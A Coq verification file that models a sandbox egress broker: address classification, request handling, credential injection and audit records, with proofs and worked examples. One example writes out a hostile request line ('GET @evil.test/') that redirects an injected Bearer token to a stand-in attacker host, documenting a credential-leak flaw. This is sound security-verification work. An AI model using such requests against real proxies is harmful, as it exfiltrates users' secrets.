(* ===== verification/Egress.v ===== *)
(** * The egress broker

    [crates/sandbox/src/egress.rs]: which addresses a name may reach, what the broker
    decides for a request of the guest, and the request it makes with a credential.
    The resolver and the sockets are the class [EgressDialer]; what the guest is told,
    the connections tried and the records written are the result of a request. *)

From stdpp Require Import gmap.
From S2P Require Import Prelude RustStr Sandbox.
#[local] Open Scope Z_scope.

(** ** Addresses

    [std::net]: an IPv4 address by its octets, an IPv6 address by its segments. *)
Record Ipv4Addr := { v4_a : Z; v4_b : Z; v4_c : Z; v4_d : Z }.

Inductive IpAddr := IpAddr_V4 (a : Ipv4Addr) | IpAddr_V6 (segments : list Z).

Record SocketAddr := { sa_ip : IpAddr; sa_port : Z }.

Definition octets (a : Ipv4Addr) : list Z := [v4_a a; v4_b a; v4_c a; v4_d a].

Definition is_unspecified_v4 (a : Ipv4Addr) : bool := forallb (Z.eqb 0) (octets a).
Definition is_loopback_v4 (a : Ipv4Addr) : bool := v4_a a =? 127.
Definition is_private (a : Ipv4Addr) : bool :=
  (v4_a a =? 10) || ((v4_a a =? 172) && (16 <=? v4_b a) && (v4_b a <=? 31)) ||
  ((v4_a a =? 192) && (v4_b a =? 168)).
Definition is_link_local (a : Ipv4Addr) : bool := (v4_a a =? 169) && (v4_b a =? 254).
Definition is_broadcast (a : Ipv4Addr) : bool := forallb (Z.eqb 255) (octets a).
Definition is_multicast_v4 (a : Ipv4Addr) : bool := (224 <=? v4_a a) && (v4_a a <=? 239).
Definition is_documentation (a : Ipv4Addr) : bool :=
  ((v4_a a =? 192) && (v4_b a =? 0) && (v4_c a =? 2)) ||
  ((v4_a a =? 198) && (v4_b a =? 51) && (v4_c a =? 100)) ||
  ((v4_a a =? 203) && (v4_b a =? 0) && (v4_c a =? 113)).

Definition public_v4 (a : Ipv4Addr) : bool :=
  negb (is_unspecified_v4 a || is_loopback_v4 a || is_private a || is_link_local a ||
        is_broadcast a || is_multicast_v4 a || is_documentation a ||
        (v4_a a =? 0) ||
        ((v4_a a =? 100) && (Z.land (v4_b a) 0xc0 =? 64)) ||
        ((v4_a a =? 192) && (v4_b a =? 0) && (v4_c a =? 0)) ||
        ((v4_a a =? 198) && (Z.land (v4_b a) 0xfe =? 18)) ||
        (240 <=? v4_a a)).

(** [s[i]]; an address has eight segments. *)
Definition segment (s : list Z) (i : nat) : Z := nth i s 0.

(** The address in two segments, as [to_be_bytes] gives its octets. *)
Definition embedded (hi lo : Z) : Ipv4Addr :=
  {| v4_a := Z.shiftr hi 8; v4_b := Z.land hi 0xff; v4_c := Z.shiftr lo 8; v4_d := Z.land lo 0xff |}.

Definition to_ipv4_mapped (s : list Z) : option Ipv4Addr :=
  if forallb (Z.eqb 0) (take 5 s) && (segment s 5 =? 0xffff) then
    Some (embedded (segment s 6) (segment s 7))
  else None.

Definition is_unspecified_v6 (s : list Z) : bool := forallb (Z.eqb 0) s.
Definition is_loopback_v6 (s : list Z) : bool :=
  forallb (Z.eqb 0) (take 7 s) && (segment s 7 =? 1).
Definition is_multicast_v6 (s : list Z) : bool := Z.land (segment s 0) 0xff00 =? 0xff00.

Definition is_public_address (ip : IpAddr) : bool :=
  match ip with
  | IpAddr_V4 a => public_v4 a
  | IpAddr_V6 s =>
      match to_ipv4_mapped s with
      | Some v4 => public_v4 v4
      | None =>
          if (segment s 0 =? 0x64) && (segment s 1 =? 0xff9b) &&
             forallb (Z.eqb 0) (take 4 (drop 2 s)) then
            public_v4 (embedded (segment s 6) (segment s 7))
          else if segment s 0 =? 0x2002 then
            public_v4 (embedded (segment s 1) (segment s 2))
          else
            negb (is_unspecified_v6 s || is_loopback_v6 s || is_multicast_v6 s ||
                  (Z.land (segment s 0) 0xfe00 =? 0xfc00) ||
                  (Z.land (segment s 0) 0xffc0 =? 0xfe80) ||
                  (Z.land (segment s 0) 0xffc0 =? 0xfec0) ||
                  ((segment s 0 =? 0x2001) && (segment s 1 =? 0x0db8)) ||
                  ((segment s 0 =? 0x0100) && forallb (Z.eqb 0) (take 3 (drop 1 s))))
      end
  end.

(** *** Text of an address

    [str::parse::<IpAddr>] and [Display]. A reader consumes a prefix of the text. *)
Definition hex_value (a : ascii) : option Z :=
  let x := byte_of a in
  if is_ascii_digit a then Some (x - 48)
  else if (97 <=? x) && (x <=? 102) then Some (x - 87)
  else if (65 <=? x) && (x <=? 70) then Some (x - 55)
  else None.

Definition digit_value (radix : Z) (a : ascii) : option Z :=
  d ← hex_value a; if d <? radix then Some d else None.

(** The digits at the front: their number, the value, and the rest. *)
Fixpoint read_digits (radix : Z) (count acc : Z) (s : string) : Z * Z * string :=
  match s with
  | "" => (count, acc, s)
  | String a s' =>
      match digit_value radix a with
      | Some d => read_digits radix (count + 1) (acc * radix + d) s'
      | None => (count, acc, s)
      end
  end.

(** [read_number]: at most [max_digits] digits, a value of at most [max]. *)
Definition read_number (radix max_digits max : Z) (allow_zero_prefix : bool) (s : string)
    : option (Z * string) :=
  let '(count, value, rest) := read_digits radix 0 0 s in
  if (count =? 0) || (max_digits <? count) || (max <? value) then None
  else if negb allow_zero_prefix && starts_with "0" s && (1 <? count) then None
  else Some (value, rest).

Definition read_char (c : ascii) (s : string) : option string :=
  match s with String a s => if Ascii.eqb a c then Some s else None | "" => None end.

(** [read_separator]: a separator in front of every item but the first. *)
Definition read_separated {A} (sep : ascii) (index : nat) (read : string → option (A * string))
    (s : string) : option (A * string) :=
  match index with
  | O => read s
  | _ => s ← read_char sep s; read s
  end.

Definition read_octet (i : nat) : string → option (Z * string) :=
  read_separated "." i (read_number 10 3 255 false).

Definition read_ipv4 (s : string) : option (Ipv4Addr * string) :=
  '(a, s) ← read_octet 0 s; '(b, s) ← read_octet 1 s;
  '(c, s) ← read_octet 2 s; '(d, s) ← read_octet 3 s;
  Some ({| v4_a := a; v4_b := b; v4_c := c; v4_d := d |}, s).

(** [read_groups] from the group [i] on, [todo] groups at most: the groups, whether the
    last two are an IPv4 address, and the rest. *)
Fixpoint read_groups (i todo : nat) (s : string) : list Z * bool * string :=
  match todo with
  | O => ([], false, s)
  | S todo' =>
      match (if (1 <? todo)%nat then read_separated ":" i read_ipv4 s else None) with
      | Some (a, s) => ([v4_a a * 256 + v4_b a; v4_c a * 256 + v4_d a], true, s)
      | None =>
          match read_separated ":" i (read_number 16 4 0xffff true) s with
          | Some (g, s) =>
              let '(gs, v4, s) := read_groups (S i) todo' s in (g :: gs, v4, s)
          | None => ([], false, s)
          end
      end
  end.

Definition read_ipv6 (s : string) : option (list Z * string) :=
  let '(head, head_v4, rest) := read_groups 0 8 s in
  if (length head =? 8)%nat then Some (head, rest)
  else if head_v4 then None
  else
    s ← read_char ":" rest; s ← read_char ":" s;
    let '(tail, _, rest) := read_groups 0 (8 - (length head + 1)) s in
    Some (head ++ replicate (8 - length head - length tail) 0 ++ tail, rest).

Definition parse_ip (s : string) : option IpAddr :=
  '(ip, rest) ← match read_ipv4 s with
                | Some (a, rest) => Some (IpAddr_V4 a, rest)
                | None => '(g, rest) ← read_ipv6 s; Some (IpAddr_V6 g, rest)
                end;
  if str_is_empty rest then Some ip else None.

Definition v4_text (a : Ipv4Addr) : string := Prelude.join "." (pretty <$> octets a).

Definition hex_digit (d : Z) : ascii := ascii_of_N (Z.to_N (if d <? 10 then 48 + d else 87 + d)).

(** [{:x}] of a segment. *)
Definition hex_text (x : Z) : string :=
  let d k := Z.land (Z.shiftr x k) 15 in
  let digits := String (hex_digit (d 12)) (String (hex_digit (d 8))
                  (String (hex_digit (d 4)) (String (hex_digit (d 0)) ""))) in
  if x =? 0 then "0" else trim_start_by (Ascii.eqb "0") digits.

(** The first longest run of zeros: where it starts and how long it is. *)
Fixpoint zero_run (s : list Z) : nat :=
  match s with 0 :: s => S (zero_run s) | _ => 0 end.
Fixpoint longest_run (i : nat) (s : list Z) : nat * nat :=
  match s with
  | [] => (0, 0)%nat
  | _ :: rest =>
      let here := zero_run s in
      let later := longest_run (S i) rest in
      if (here =? 0)%nat || (here <? later.2)%nat then later else (i, here)
  end.

Definition v6_text (s : list Z) : string :=
  match to_ipv4_mapped s with
  | Some v4 => "::ffff:" +:+ v4_text v4
  | None =>
      let '(start, len) := longest_run 0 s in
      let text l := Prelude.join ":" (hex_text <$> l) in
      if (1 <? len)%nat then text (take start s) +:+ "::" +:+ text (drop (start + len) s)
      else text s
  end.

Definition ip_text (ip : IpAddr) : string :=
  match ip with IpAddr_V4 a => v4_text a | IpAddr_V6 s => v6_text s end.

(** ** The broker *)

Record EgressRecord := {
  er_kind : string;
  er_destination : string;
  er_allowed : bool;
  er_capability : string;
  er_detail : string;
  er_reason : string;
  er_at_ms : Z
}.

Definition NO_EGRESS_RULE : string := "NO_EGRESS_RULE".
Definition ORG_ALLOW_LIST : string := "ORG_ALLOW_LIST".
Definition CONNECT_FAILED : string := "CONNECT_FAILED".
Definition CREDENTIAL_EXPIRED : string := "CREDENTIAL_EXPIRED".
Definition CREDENTIAL_MISSING : string := "CREDENTIAL_MISSING".
Definition BAD_REQUEST : string := "BAD_REQUEST".
Definition TARGET_NOT_PUBLIC : string := "TARGET_NOT_PUBLIC".

(** The resolver and the sockets; an error by its text. *)
Class EgressDialer := {
  dial_resolve : string → Z → result string (list SocketAddr);
  dial_connect : SocketAddr → result string unit
}.

Inductive DialError := DialError_NotPublic (addr : SocketAddr) | DialError_Io (e : string).

Inductive CredentialLookup :=
  | CredentialLookup_NotCredentialed
  | CredentialLookup_Ready (grant : CredentialGrant) (secret : string)
  | CredentialLookup_Refused (grant : CredentialGrant) (why detail : string).

Inductive Decision :=
  | Decision_Admit (capability : string) (literal : bool)
  | Decision_NoRule
  | Decision_Org (note : string).

Definition org_detail (note : string) : string :=
  "the organisation's egress allow-list does not name this destination (" +:+ note +:+ ")".

Record EgressBroker := {
  eb_sandbox_id : string;
  eb_policy : NetworkPolicy;
  eb_secrets : gmap string string;
  eb_audit : list EgressRecord
}.

Definition EgressBroker_new (sandbox_id : string) (policy : NetworkPolicy)
    (secrets : gmap string string) : EgressBroker :=
  {| eb_sandbox_id := sandbox_id; eb_policy := policy; eb_secrets := secrets; eb_audit := [] |}.

Definition split_host_port (s : string) (default_port : Z) : string * Z :=
  match rsplit_once ":" s with
  | Some (h, p) =>
      if str_all is_ascii_digit p && negb (str_is_empty p) then
        (trim_end_by (λ c, Ascii.eqb c "[" || Ascii.eqb c "]")
           (trim_start_by (λ c, Ascii.eqb c "[" || Ascii.eqb c "]") h),
         default default_port (parse_u16 p))
      else (s, default_port)
  | None => (s, default_port)
  end.

(** ** The request with a credential

    The guest's bytes come in chunks; the head is complete at an empty line. *)
Definition CRLF : string := String CR (String NL "").
Definition HEAD_END : string := CRLF +:+ CRLF.

Inductive Head :=
  | Head_Closed
  | Head_TooLarge
  | Head_Read (head_end : nat) (raw : string) (chunks : list string).

Fixpoint read_head (chunks : list string) (raw : string) : Head :=
  match match_indices HEAD_END raw with
  | i :: _ => Head_Read (i + 4) raw chunks
  | [] =>
      match chunks with
      | [] => Head_Closed
      | c :: chunks =>
          let raw := raw +:+ c in
          if 64 * 1024 <? str_len raw then Head_TooLarge else read_head chunks raw
      end
  end.

(** The path of the request target: an absolute URI is cut down to it. *)
Definition path_of_target (target : string) : string :=
  match strip_prefix "http://" target with
  | Some rest => match split_once "/" rest with Some (_, r) => "/" +:+ r | None => "/" end
  | None => target
  end.

Definition drops_header (grant : CredentialGrant) (k : string) : bool :=
  eq_ignore_ascii_case k "host" || eq_ignore_ascii_case k "proxy-connection" ||
  eq_ignore_ascii_case k "connection" || eq_ignore_ascii_case k (cg_header grant).

(** The header lines in turn: the headers kept and the length of the body. *)
Fixpoint read_headers (grant : CredentialGrant) (ls : list string) (headers : list (string * string))
    (content_length : Z) : list (string * string) * Z :=
  match ls with
  | [] => (headers, content_length)
  | l :: ls =>
      match split_once ":" l with
      | None => read_headers grant ls headers content_length
      | Some (k, v) =>
          let k := trim k in let v := trim v in
          let content_length :=
            if eq_ignore_ascii_case k "content-length" then default 0 (parse_u64 v)
            else content_length in
          read_headers grant ls
            (if drops_header grant k then headers else headers ++ [(k, v)]) content_length
      end
  end.

Fixpoint read_body (chunks : list string) (body : string) (content_length : Z) : string :=
  if content_length <=? str_len body then body
  else match chunks with
       | [] => body
       | c :: chunks => read_body chunks (body +:+ c) content_length
       end.

Record HttpRequest := {
  hr_method : string;
  hr_url : string;
  hr_headers : list (string * string);
  hr_body : string
}.

(** The text of the head, of which ill-formed bytes are replaced (a class, since only
    well-formed text matters here), and whether the client takes a method. *)
Class HttpLib := { lossy : string → string; method_ok : string → bool }.

Definition credentialed_request `{HttpLib} (grant : CredentialGrant) (secret : string)
    (head_end : nat) (raw : string) (chunks : list string) : HttpRequest :=
  let head := lines (lossy (str_take head_end raw)) in
  let request_line := default "" (List.hd_error head) in
  let parts := split_whitespace request_line in
  let method := default "GET" (parts !! 0%nat) in
  let target := default "/" (parts !! 1%nat) in
  let '(headers, content_length) := read_headers grant (List.tl head) [] 0 in
  {| hr_method := if method_ok method then method else "GET";
     hr_url := trim_end_by is_slash (cg_target_url grant) +:+ path_of_target target;
     hr_headers := headers ++ [(cg_header grant, cg_value_prefix grant +:+ secret)];
     hr_body := read_body chunks (str_drop head_end raw) content_length |}.

Definition forward_credentialed `{HttpLib} (grant : CredentialGrant) (secret : string)
    (chunks : list string) : option HttpRequest :=
  match read_head chunks "" with
  | Head_Read head_end raw rest => Some (credentialed_request grant secret head_end raw rest)
  | _ => None
  end.

(** ** Serving a request *)

Section Broker.
  Context `{EgressDialer, HttpLib}.

(** The addresses of a resolution in turn; the ones tried, and whether one connected. *)
Fixpoint connect_first (addrs : list SocketAddr) (last : string)
    : list SocketAddr * result string SocketAddr :=
  match addrs with
  | [] => ([], Err last)
  | addr :: addrs =>
      match dial_connect addr with
      | Ok _ => ([addr], Ok addr)
      | Err e => let '(tried, r) := connect_first addrs e in (addr :: tried, r)
      end
  end.

Definition dial (host : string) (port : Z) (literal : bool)
    : list SocketAddr * result DialError SocketAddr :=
  match dial_resolve host port with
  | Err e => ([], Err (DialError_Io e))
  | Ok [] => ([], Err (DialError_Io "the name did not resolve"))
  | Ok addrs =>
      match (if literal then None
             else List.find (λ a, negb (is_public_address (sa_ip a))) addrs) with
      | Some bad => ([], Err (DialError_NotPublic bad))
      | None =>
          let '(tried, r) := connect_first addrs "no address connected" in
          (tried, map_err DialError_Io r)
      end
  end.

(** The first grant under the handle gets the new lifetime. *)
Fixpoint renew_first (handle : string) (expires_at_ms : Z) (l : list CredentialGrant)
    : option (list CredentialGrant) :=
  match l with
  | [] => None
  | c :: l =>
      if cg_handle c =s handle then
        Some ({| cg_handle := cg_handle c; cg_virtual_host := cg_virtual_host c;
                 cg_target_url := cg_target_url c; cg_header := cg_header c;
                 cg_value_prefix := cg_value_prefix c; cg_capability := cg_capability c;
                 cg_expires_at_ms := expires_at_ms |} :: l)
      else l ← renew_first handle expires_at_ms l; Some (c :: l)
  end.

Definition renew (self : EgressBroker) (handle secret : string) (expires_at_ms : Z)
    : EgressBroker * bool :=
  match renew_first handle expires_at_ms (np_credentials (eb_policy self)) with
  | None => (self, false)
  | Some credentials =>
      ({| eb_sandbox_id := eb_sandbox_id self;
          eb_policy := {| np_egress := np_egress (eb_policy self);
                          np_credentials := credentials;
                          np_org_allow := np_org_allow (eb_policy self) |};
          eb_secrets := <[handle := secret]> (eb_secrets self);
          eb_audit := eb_audit self |}, true)
  end.

Definition live_credential (self : EgressBroker) (now_ms : Z) (host : string)
    : EgressBroker * CredentialLookup :=
  match credential_for (eb_policy self) host with
  | None => (self, CredentialLookup_NotCredentialed)
  | Some grant =>
      if negb (live_at grant now_ms) then
        ({| eb_sandbox_id := eb_sandbox_id self; eb_policy := eb_policy self;
            eb_secrets := delete (cg_handle grant) (eb_secrets self);
            eb_audit := eb_audit self |},
         CredentialLookup_Refused grant CREDENTIAL_EXPIRED
           "the credential handle has expired; the secret is dropped and a fresh one must be granted")
      else
        match eb_secrets self !! cg_handle grant with
        | Some secret => (self, CredentialLookup_Ready grant secret)
        | None =>
            (self, CredentialLookup_Refused grant CREDENTIAL_MISSING
               "no secret is held under the handle")
        end
  end.

Definition record (self : EgressBroker) (at_ms : Z) (kind destination : string) (allowed : bool)
    (capability reason detail : string) : EgressBroker :=
  {| eb_sandbox_id := eb_sandbox_id self; eb_policy := eb_policy self;
     eb_secrets := eb_secrets self;
     eb_audit := eb_audit self ++
       [{| er_kind := kind; er_destination := destination; er_allowed := allowed;
           er_capability := capability; er_detail := detail; er_reason := reason;
           er_at_ms := at_ms |}] |}.

Definition decide (self : EgressBroker) (host : string) (port : Z) : Decision :=
  match NetworkPolicy_admits (eb_policy self) host port with
  | None => Decision_NoRule
  | Some rule =>
      match org_refusal (eb_policy self) host port with
      | Some org => Decision_Org (oa_note org)
      | None => Decision_Admit (eg_capability rule) (is_some (parse_ip (trim (eg_host rule))))
      end
  end.

(** [split_once("://")]. *)
Fixpoint split_scheme (s : string) : option (string * string) :=
  match strip_prefix "://" s with
  | Some rest => Some ("", rest)
  | None =>
      match s with
      | "" => None
      | String a s => '(l, r) ← split_scheme s; Some (String a l, r)
      end
  end.

(** The characters that end an authority. *)
Definition delimiter (c : ascii) : bool := Ascii.eqb c "/" || Ascii.eqb c "?" || Ascii.eqb c "#".

(** The host and port of a grant's target, as the broker reads them off the text. *)
Definition target_of (target_url : string) : string * Z :=
  let '(scheme, rest) := default ("https", target_url) (split_scheme target_url) in
  let authority := hd "" (split_by delimiter rest) in
  let authority := rsplit_first (Ascii.eqb "@") authority in
  split_host_port authority (if scheme =s "http" then 80 else 443).

Definition org_refuses_target (self : EgressBroker) (target_url : string) : option string :=
  let '(host, port) := target_of target_url in
  oa_note <$> org_refusal (eb_policy self) host port.

(** What comes of a request: what the guest is told, the addresses the broker tried to
    connect to, what is carried on, and the result of serving the channel. A relay goes
    to the address that connected; a request with a credential, if the guest sends one,
    is given to the HTTP client, which resolves and connects by itself. *)
Inductive Carried :=
  | Carried_Nothing
  | Carried_Relay (addr : SocketAddr)
  | Carried_Forward (grant : CredentialGrant) (secret : string) (req : option HttpRequest).

Record Served := {
  sd_reply : string;
  sd_tried : list SocketAddr;
  sd_carried : Carried;
  sd_result : result string unit
}.

(** A reply that ends the request; [wrote] is what writing it gave. *)
Definition denied (wrote : result string unit) (reason detail : string) (tried : list SocketAddr)
    : Served :=
  {| sd_reply := "DENIED " +:+ reason +:+ " " +:+ detail +:+ CRLF; sd_tried := tried;
     sd_carried := Carried_Nothing; sd_result := wrote |}.

(** The OK before something is carried on: if it cannot be written, nothing is. *)
Definition accepted (wrote : result string unit) (tried : list SocketAddr) (what : Carried) : Served :=
  {| sd_reply := "OK" +:+ CRLF; sd_tried := tried;
     sd_carried := match wrote with Ok _ => what | Err _ => Carried_Nothing end;
     sd_result := wrote |}.

Definition plain (self : EgressBroker) (at_ms : Z) (wrote : result string unit)
    (kind rest host : string) (port : Z) : EgressBroker * Served :=
  match decide self host port with
  | Decision_Admit cap literal =>
      match dial host port literal with
      | (tried, Ok upstream) =>
          (record self at_ms kind rest true cap "" "", accepted wrote tried (Carried_Relay upstream))
      | (tried, Err (DialError_NotPublic addr)) =>
          let detail := host +:+ " resolves to " +:+ ip_text (sa_ip addr) +:+
            ", which is not a public address; only a rule that names the IP address itself reaches it" in
          (record self at_ms kind rest false "" TARGET_NOT_PUBLIC detail,
           denied wrote TARGET_NOT_PUBLIC detail tried)
      | (tried, Err (DialError_Io e)) =>
          (record self at_ms kind rest true cap CONNECT_FAILED ("connect failed: " +:+ e),
           denied wrote CONNECT_FAILED ("connect failed: " +:+ e) tried)
      end
  | Decision_Org note =>
      (record self at_ms kind rest false "" ORG_ALLOW_LIST (org_detail note),
       denied wrote ORG_ALLOW_LIST (org_detail note) [])
  | Decision_NoRule =>
      let detail := "no egress rule admits this destination" in
      (record self at_ms kind rest false "" NO_EGRESS_RULE detail,
       denied wrote NO_EGRESS_RULE detail [])
  end.

(** One channel. [now_ms] is the clock at the credential lookup, [at_ms] at the record;
    [request] is what reading the request line gave (an error for a timeout, a closed
    channel or bytes that are no text), [wrote] what writing the one reply gave, and
    [chunks] what the guest sends after it. *)
Definition handle (self : EgressBroker) (now_ms at_ms : Z) (request : result string string)
    (wrote : result string unit) (chunks : list string) : EgressBroker * Served :=
  match request with
  | Err e =>
      (self, {| sd_reply := ""; sd_tried := []; sd_carried := Carried_Nothing; sd_result := Err e |})
  | Ok line =>
  let line := trim line in
  let '(verb, rest) := default (line, "") (split_once " " line) in
  if verb =s "TUNNEL" then
    let '(host, port) := split_host_port rest 443 in plain self at_ms wrote "tunnel" rest host port
  else if verb =s "HTTP" then
    let '(host, port) := split_host_port rest 80 in
    match live_credential self now_ms host with
    | (self, CredentialLookup_Ready grant secret) =>
        match org_refuses_target self (cg_target_url grant) with
        | Some note =>
            (record self at_ms "credentialed" host false (cg_capability grant) ORG_ALLOW_LIST
               (org_detail note),
             denied wrote ORG_ALLOW_LIST (org_detail note) [])
        | None =>
            (match wrote with
             | Ok _ => record self at_ms "credentialed" host true (cg_capability grant) ""
                         ("forwarded to " +:+ cg_target_url grant)
             | Err _ => self
             end,
             accepted wrote []
               (Carried_Forward grant secret (forward_credentialed grant secret chunks)))
        end
    | (self, CredentialLookup_Refused grant why detail) =>
        (record self at_ms "credentialed" host false (cg_capability grant) why detail,
         denied wrote why detail [])
    | (self, CredentialLookup_NotCredentialed) => plain self at_ms wrote "http" rest host port
    end
  else
    (record self at_ms "bad" verb false "" BAD_REQUEST "unknown verb",
     denied wrote BAD_REQUEST "unknown verb" [])
  end.

End Broker.

(** ** Public addresses

    The blocks of IPv4 addresses that are not public, as intervals of their values. *)
Definition v4_value (a : Ipv4Addr) : Z :=
  v4_a a * 16777216 + v4_b a * 65536 + v4_c a * 256 + v4_d a.

(** [a.b.c.d/len]. *)
Definition block (a b c d len : Z) : Z * Z :=
  let lo := a * 16777216 + b * 65536 + c * 256 + d in (lo, lo + 2 ^ (32 - len) - 1).

Definition NOT_PUBLIC : list (Z * Z) :=
  [block 0 0 0 0 8; block 10 0 0 0 8; block 100 64 0 0 10; block 127 0 0 0 8;
   block 169 254 0 0 16; block 172 16 0 0 12; block 192 0 0 0 24; block 192 0 2 0 24;
   block 192 168 0 0 16; block 198 18 0 0 15; block 198 51 100 0 24; block 203 0 113 0 24;
   block 224 0 0 0 4; block 240 0 0 0 4].

Definition in_block (v : Z) (b : Z * Z) : Prop := b.1 ≤ v ≤ b.2.

Definition v4_wf (a : Ipv4Addr) : Prop := Forall (λ o, 0 ≤ o ≤ 255) (octets a).

Lemma byte_cases (P : Z → bool) x :
  0 ≤ x ≤ 255 → forallb P (Z.of_nat <$> seq 0 256) = true → P x = true.
Proof.
  intros Hx. rewrite forallb_true. intros Hall. apply Hall. apply list_elem_of_fmap.
  exists (Z.to_nat x). rewrite elem_of_seq. lia.
Qed.

Lemma mask_c0 x : 0 ≤ x ≤ 255 → (Z.land x 0xc0 =? 64) = (64 <=? x) && (x <=? 127).
Proof.
  intros Hx. apply eqb_prop. apply (byte_cases (λ x, Bool.eqb _ _) x Hx). vm_compute. reflexivity.
Qed.

Lemma mask_fe x : 0 ≤ x ≤ 255 → (Z.land x 0xfe =? 18) = (18 <=? x) && (x <=? 19).
Proof.
  intros Hx. apply eqb_prop. apply (byte_cases (λ x, Bool.eqb _ _) x Hx). vm_compute. reflexivity.
Qed.

(** Blocks by the octets of their addresses. *)
Ltac block_lia :=
  unfold in_block, block, v4_value; cbn [fst snd v4_a v4_b v4_c v4_d];
  repeat match goal with |- context [2 ^ ?e] =>
    let x := eval vm_compute in (2 ^ e) in change (2 ^ e) with x end; lia.

Section Blocks.
  Context (a : Ipv4Addr) (Hwf : v4_wf a).

Lemma octet_bounds :
  0 ≤ v4_a a ≤ 255 ∧ 0 ≤ v4_b a ≤ 255 ∧ 0 ≤ v4_c a ≤ 255 ∧ 0 ≤ v4_d a ≤ 255.
Proof. unfold v4_wf, octets in Hwf. rewrite !Forall_cons in Hwf. tauto. Qed.

Lemma block_8 k : in_block (v4_value a) (block k 0 0 0 8) ↔ v4_a a = k.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_4 k : in_block (v4_value a) (block k 0 0 0 4) ↔ k ≤ v4_a a < k + 16.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_100 : in_block (v4_value a) (block 100 64 0 0 10) ↔ v4_a a = 100 ∧ 64 ≤ v4_b a ≤ 127.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_172 : in_block (v4_value a) (block 172 16 0 0 12) ↔ v4_a a = 172 ∧ 16 ≤ v4_b a ≤ 31.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_198 : in_block (v4_value a) (block 198 18 0 0 15) ↔ v4_a a = 198 ∧ 18 ≤ v4_b a ≤ 19.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_169 : in_block (v4_value a) (block 169 254 0 0 16) ↔ v4_a a = 169 ∧ v4_b a = 254.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_192 : in_block (v4_value a) (block 192 168 0 0 16) ↔ v4_a a = 192 ∧ v4_b a = 168.
Proof. pose proof octet_bounds. block_lia. Qed.

Lemma block_24 k m n :
  0 ≤ m ≤ 255 → 0 ≤ n ≤ 255 →
  in_block (v4_value a) (block k m n 0 24) ↔ v4_a a = k ∧ v4_b a = m ∧ v4_c a = n.
Proof. intros ? ?. pose proof octet_bounds. block_lia. Qed.

(** One of many alternatives, each of them easy. *)
Ltac pick :=
  lazymatch goal with
  | |- _ ∨ _ => first [left; pick | right; pick]
  | |- _ => lia
  end.

(** The test on octets is the list of blocks. *)
Lemma public_v4_exact :
  public_v4 a = true ↔ Forall (λ b, ¬ in_block (v4_value a) b) NOT_PUBLIC.
Proof.
  pose proof octet_bounds as (? & Hb & ? & ?).
  assert (public_v4 a = false ↔ Exists (in_block (v4_value a)) NOT_PUBLIC) as Hf.
  { unfold public_v4, NOT_PUBLIC.
    rewrite !Exists_cons, Exists_nil, !block_8, !block_4, block_100, block_172, block_198,
      block_169, block_192, !block_24 by lia.
    rewrite (mask_c0 _ Hb), (mask_fe _ Hb), negb_false_iff.
    unfold is_unspecified_v4, is_broadcast, is_loopback_v4, is_private, is_link_local,
      is_multicast_v4, is_documentation, octets. cbn [forallb].
    rewrite !orb_true_iff, !andb_true_iff, !Z.eqb_eq, !Z.leb_le.
    split; intros Hp; destruct_or? Hp; destruct_and? Hp; pick. }
  rewrite <- not_false_iff_true, Hf, Forall_Exists_neg. unfold not. done.
Qed.
End Blocks.

(** ** Where a credential goes *)








(** ** What leaves the sandbox *)

Section Confined.
  Context `{EgressDialer, HttpLib}.









(** The destination a request line names. *)
Definition destination (line : string) : string * Z :=
  let line := trim line in
  let '(verb, rest) := default (line, "") (split_once " " line) in
  split_host_port rest (if verb =s "TUNNEL" then 443 else 80).








End Confined.

(** ** Examples *)

Module EgressExample.

Definition addr (a b c d : Z) : SocketAddr :=
  {| sa_ip := IpAddr_V4 {| v4_a := a; v4_b := b; v4_c := c; v4_d := d |}; sa_port := 443 |}.

(** A resolver with one internal name, and a network on which everything answers. *)
#[export] Instance dialer : EgressDialer := {
  dial_resolve host _ :=
    if host =s "inner.npmjs.org" then Ok [addr 93 184 216 34; addr 169 254 169 254]
    else Ok [addr 93 184 216 34];
  dial_connect _ := Ok tt
}.

#[export] Instance http : HttpLib := { lossy s := s; method_ok _ := true }.

Definition forge : CredentialGrant :=
  {| cg_handle := "forge-token"; cg_virtual_host := "forge.modbit.internal";
     cg_target_url := "https://api.github.com"; cg_header := "Authorization";
     cg_value_prefix := "Bearer "; cg_capability := "secret.use"; cg_expires_at_ms := 100 |}.

Definition broker : EgressBroker :=
  EgressBroker_new "s1"
    {| np_egress := [{| eg_host := "*.npmjs.org"; eg_port := 443; eg_capability := "network.egress" |}];
       np_credentials := [forge];
       np_org_allow := Some {| oa_entries := ["*.npmjs.org"; "api.github.com"]; oa_note := "g3" |} |}
    {[ "forge-token" := "s3cret" ]}.


Example rebinding_refused :
  let out := (handle broker 50 51 (Ok "TUNNEL inner.npmjs.org:443") (Ok tt) []).2 in
  sd_tried out = [] ∧ starts_with "DENIED TARGET_NOT_PUBLIC inner.npmjs.org resolves to 169.254.169.254"
                        (sd_reply out) = true.
Proof. vm_compute. split; reflexivity. Qed.

Example expired_secret_dropped :
  eb_secrets (handle broker 100 100 (Ok "HTTP forge.modbit.internal") (Ok tt) []).1 = ∅.
Proof. vm_compute. reflexivity. Qed.

Example metadata_not_public :
  is_public_address (IpAddr_V4 {| v4_a := 100; v4_b := 100; v4_c := 100; v4_d := 200 |}) = false ∧
  option_map is_public_address (parse_ip "::ffff:169.254.169.254") = Some false ∧
  option_map is_public_address (parse_ip "64:ff9b::a9fe:a9fe") = Some false ∧
  option_map is_public_address (parse_ip "fd00:ec2::254") = Some false ∧
  option_map is_public_address (parse_ip "2606:4700:4700::1111") = Some true ∧
  option_map ip_text (parse_ip "2606:4700:0:0:1:0:0:1111") = Some "2606:4700::1:0:0:1111".
Proof. vm_compute. split_and!; reflexivity. Qed.

(** A request target that does not start with a slash is glued to the target's host: the
    secret of the grant is sent to a host of the guest's choice. *)
Example credential_leaves :
  let req := forward_credentialed forge "s3cret"
    ["GET @evil.test/ HTTP/1.1" +:+ CRLF +:+ "Host: forge.modbit.internal" +:+ CRLF +:+ CRLF] in
  (hr_url <$> req) = Some "https://api.github.com@evil.test/" ∧
  ((λ r, target_of (hr_url r)) <$> req) = Some ("evil.test", 443) ∧
  (hr_headers <$> req) = Some [("Authorization", "Bearer s3cret")].
Proof. vm_compute. split_and!; reflexivity. Qed.

End EgressExample.
